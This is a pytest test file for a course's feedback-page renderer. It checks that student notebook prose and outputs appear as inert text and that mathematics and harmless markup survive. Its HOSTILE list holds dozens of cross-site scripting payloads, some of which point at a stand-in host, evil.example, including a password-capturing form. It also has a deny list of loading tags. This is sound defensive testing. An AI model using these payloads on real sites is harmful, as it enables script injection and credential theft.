"""The feedback page: a student's prose is shown, but nothing in it runs, loads code or restyles a teacher's page."""

import re
from html.parser import HTMLParser

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from course.classroom.feedback import feedback_page, sections_of, shows
from course.classroom.model import Grades
from course.classroom.prose import prose as prose_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][here]\n\n[here]: javascript:alert(1)",
    "<a href='  javascript:alert(1)'>click</a>",
    "<a href='vbscript:x' onclick=alert(1)>click</a>",
    "<style>.points { display: none } body { background: url(//evil.example) }</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>100 of 100</p>",
    "<td style='background:url(javascript:alert(1))'>x</td>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</section></body><script>alert(1)</script>",
    "<span class=points id=check-step>100 of 100</span>",
    "`</code><script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
    "$</span><script>alert(1)</script>$",
    "$$<img src=x onerror=alert(1)>$$",
    "\\begin{align}<script>alert(1)</script>\\end{align}",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$\\href{javascript:alert(1)}{x}$ $\\style{position:fixed}{x}$ $\\class{points}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    '![$\\text{" onerror=alert(1) }$](x)',
    "<math><mi onclick=alert(1) href=javascript:alert(1) xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](attachment:missing.png)",
]
LOADING = {"script", "style", "link", "meta", "base", "iframe", "object", "embed", "form", "input", "button", "svg",
           "video", "audio", "source", "noscript", "template", "body"}  # fmt: skip
GRADES = Grades({"check-step": (0.5, 1.0), "derive": (None, 5.0)}, comments={"step": "Well explained."})


class Tags(HTMLParser):
    """Every tag of a page with its attributes, as a browser would read them."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def page_of(*cells):
    return feedback_page("trial", sections_of(new_notebook(cells=list(cells))), GRADES)


EMPTY = Tags(page_of(new_markdown_cell(""))).found


def prose(source):
    """The tags that a cell of prose adds to the page, and the whole page."""
    page = page_of(new_markdown_cell(source))
    return Tags(page).found[len(EMPTY) :], page


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_in_hostile_prose_runs_loads_or_restyles(source):
    tags, page = prose(source)
    for tag, attributes in tags:
        assert tag not in LOADING
        assert not [name for name in attributes if name.startswith("on") or name in ("class", "id", "formaction")]
        assert attributes.get("style", "") in ("", "text-align:left", "text-align:center", "text-align:right")
        for name in ("href", "src"):
            assert attributes.get(name, "https:").strip().lower().startswith(("https:", "http:", "x"))
    assert page.count("</section>") == page.count("<section")


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_text_anywhere_else_is_shown_as_text(source):
    """Code, what it prints, its errors, a displayed page, a comment: all of it is text."""
    outputs = [
        new_output("stream", text=source),
        new_output("error", ename="E", evalue=source, traceback=[source]),
        new_output("error", ename=source, evalue=source, traceback=[]),
        new_output("display_data", {"text/html": source, "text/plain": source}),
        new_output("display_data", {"image/png": f'"{source}'}),
        new_output("display_data", {"image/svg+xml": source}),
    ]
    page = page_of(new_code_cell(source, outputs=outputs))
    added = Tags(page).found[len(EMPTY) - 1 :]
    assert {tag for tag, _ in added} == {"section", "pre", "code", "div"}
    assert all(set(attributes) <= {"class"} for _, attributes in added)


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        (
            "$a < b$ and *slanted*",
            '<math display="inline"><mrow><mi>a</mi><mo>&lt;</mo><mi>b</mi></mrow></math> and <em>',
        ),
        ("$$\\frac{\\partial L}{2}$$", "<mfrac><mrow><mo>∂</mo><mi>L</mi></mrow><mrow><mn>2</mn></mrow></mfrac>"),
        ("\\begin{align}a &< b\\\\c\\end{align}", '<math display="block"><mrow><mtable>'),
        (
            "$$\\begin{aligned}a &= b\\\\c\\end{aligned}$$",
            '<mtr><mtd style="text-align:right"><mi>a</mi></mtd><mtd style=',
        ),
        ("$\\text{fan\\_in}$", "<mtext>fan_in</mtext>"),
        ("$f'(x)$", "<mrow><mi>f</mi><mo>\u2032</mo></mrow>"),
        ("$\\text{if <b>}$", "<mtext>if&nbsp;&lt;b&gt;</mtext>"),
        ("$\\frac{$", "<code>\\frac{</code>"),
        ("**bold** *slanted* `code < 1`", "<strong>bold</strong> <em>slanted</em> <code>code &lt; 1</code>"),
        ("## A heading", "<h2>A heading</h2>"),
        ("- one\n- two", "<li>one</li>"),
        ("| a |\n|--:|\n| 1 |", '<td style="text-align:right">1</td>'),
        ("<details><summary>More</summary>text</details>", "<details><summary>More</summary>text</details>"),
        ("a<sub>1</sub><br>b <mark>c</mark>", "a<sub>1</sub><br>b <mark>c</mark>"),
        ("[a page](https://example.org)", '<a href="https://example.org"'),
        ("[chapter](02_activations.ipynb)", '<a href="02_activations.ipynb"'),
        ("![a plot](https://example.org/a.png)", '<img src="https://example.org/a.png" alt="a plot">'),
        ("größe ≥ 1 🙂", "größe ≥ 1 🙂"),
    ],
)
def test_mathematics_and_harmless_markup_survive(source, shown):
    assert shown in prose(source)[1]


def test_a_pasted_picture_is_shown():
    cell = new_markdown_cell("![](attachment:a.png)", attachments={"a.png": {"image/png": "iVBORw0KGgo="}})
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in page_of(cell)


def test_a_page_loads_nothing():
    page = page_of(new_markdown_cell("![x](https://example.org/a.png) $x$"))
    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data:" in page
    assert not any(tag in ("script", "link") for tag, _ in Tags(page).found)


def test_points_comments_and_pictures_are_shown():
    picture = new_output("display_data", {"image/png": "iVBORw0KGgo="})
    checked = new_code_cell("check(step)", metadata={"nbgrader": {"grade_id": "check-step"}}, outputs=[picture])
    answer = new_code_cell("def step(z): ...", metadata={"nbgrader": {"grade_id": "step"}})
    page = page_of(answer, checked)
    assert '<a href="#check-step">step</a><td>0.5 of 1' in page and "<td>not yet graded" in page
    assert '<span class="points">0.5 of 1</span>' in page
    assert "<strong>Comment:</strong> Well explained." in page
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in page


@pytest.mark.parametrize(
    ("points", "penalty", "total"),
    [
        ({"a": (2.5, 3.0)}, 0.0, "2.5 of 3 points"),
        ({"a": (2.5, 3.0)}, 1.0, "1.5 of 3 points (2.5, of which 1 points are taken off because it was late)"),
        ({"a": (2.5, 3.0), "b": (None, 2.0)}, 0.0, "2.5 of 5 points, not all of it graded yet"),
    ],
)
def test_the_total_says_what_lateness_costs_and_what_waits(points, penalty, total):
    page = feedback_page("trial", [], Grades(points, late_penalty=penalty))
    assert f"<small>{total}</small>" in page


def test_a_page_knows_which_grades_it_shows(tmp_path):
    path, other = tmp_path / "page.html", Grades({"check-step": (1.0, 1.0)})
    assert not shows(path, GRADES)
    path.write_text(page_of(new_markdown_cell("text")))
    assert shows(path, GRADES) and not shows(path, other)
    path.write_text("<!doctype html><p>Somebody else's page")
    assert not shows(path, GRADES)


def test_every_formula_of_the_course_becomes_mathml(the_book):
    found = 0
    for chapter in the_book.chapters:
        for cell in nbformat.read(the_book.notebook_path(chapter), as_version=4).cells:
            if cell.cell_type == "markdown":
                markup = prose_html(cell.source)
                formulas = re.findall(r"<math.*?</math>", markup, re.DOTALL)
                assert not [text for text in formulas if re.search(r"\\|<mi>&amp;</mi>", text)], cell.id
                assert len(formulas) == markup.count("<math") and not re.search(r"<code>[^<]*\\", markup), cell.id
                found += len(formulas)
    assert found > 500
